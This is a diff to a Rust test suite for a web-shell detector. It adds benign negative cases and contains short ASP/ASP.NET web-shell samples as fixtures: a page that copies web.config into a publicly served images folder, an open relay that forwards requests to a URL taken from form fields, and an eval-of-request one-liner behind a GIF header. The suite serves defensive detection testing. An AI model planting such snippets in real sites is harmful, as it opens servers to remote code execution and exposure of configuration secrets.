@@ -124,7 +124,7 @@ fn cases() -> Vec<Case> {
         case(
             "EXRAY_Config_Copied_To_Served_File",
             "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object o, EventArgs e) {\n string a = Server.MapPath(\"~/web.config\");\n string b = Server.MapPath(\"~/images/t.txt\");\n System.IO.File.Copy(a, b, true);\n}\n</script>\n",
-            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Backup(object o, EventArgs e) {\n System.IO.File.Copy(Server.MapPath(\"~/web.config\"), Server.MapPath(\"~/App_Data/web.config.bak\"), true);\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Backup(object o, EventArgs e) {\n System.IO.File.Copy(Server.MapPath(\"~/web.config\"), Server.MapPath(\"~/App_Data/web.config.bak\"), true);\n System.IO.File.AppendAllText(Server.MapPath(\"~/App_Data/backup-log.txt\"), \"saved\");\n}\n</script>\n",
         ),
         case(
             "EXRAY_ASP_Execute_Char_Pieces",
@@ -578,6 +578,15 @@ fn obfuscated_one_liner_variants() {
     // A relay whose target comes from oddly named form fields and whose body is the caller's.
     let relay = "<%@ Page Language=\"C#\" %>\n<%\nstring u = Request.Form[\"Remoteserver\"] + Request.Form[\"Endpoint\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(u);\nr.Method = \"POST\";\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(new StreamReader(r.GetResponse().GetResponseStream()).ReadToEnd());\n%>";
     assert!(hits(relay).contains("EXRAY_HTTP_Proxy_Request_Url"));
+    // A forwarder to one fixed backend is not a relay to anywhere.
+    let fixed = "<%@ Page Language=\"C#\" %>\n<%\nstring id = Request.Form[\"order\"];\nbyte[] b = new byte[Request.ContentLength];\nRequest.InputStream.Read(b, 0, b.Length);\nvar r = (HttpWebRequest)WebRequest.Create(\"https://payments.example/api/notify\");\nr.GetRequestStream().Write(b, 0, b.Length);\nResponse.Write(\"ok\");\n%>";
+    assert!(!hits(fixed).contains("EXRAY_HTTP_Proxy_Request_Url"));
+    // Client-side JavaScript that evaluates a variable next to a Replace() of another: no decoder.
+    let client = "<%\nname = Replace(name, \"-\", \"\")\n%>\n<script>\nvar cfg = load();\n"
+        .to_string()
+        + &"// filler\n".repeat(40)
+        + "eval(cfg)\n</script>";
+    assert!(!hits(&client).contains("EXRAY_ASP_Execute_Decoder"));
     // A GIF header in front changes nothing.
     let gif = "GIF89a\n<%eval request(\"i\")%>";
     assert!(hits(gif).contains("EXRAY_Eval_Request_Direct"));
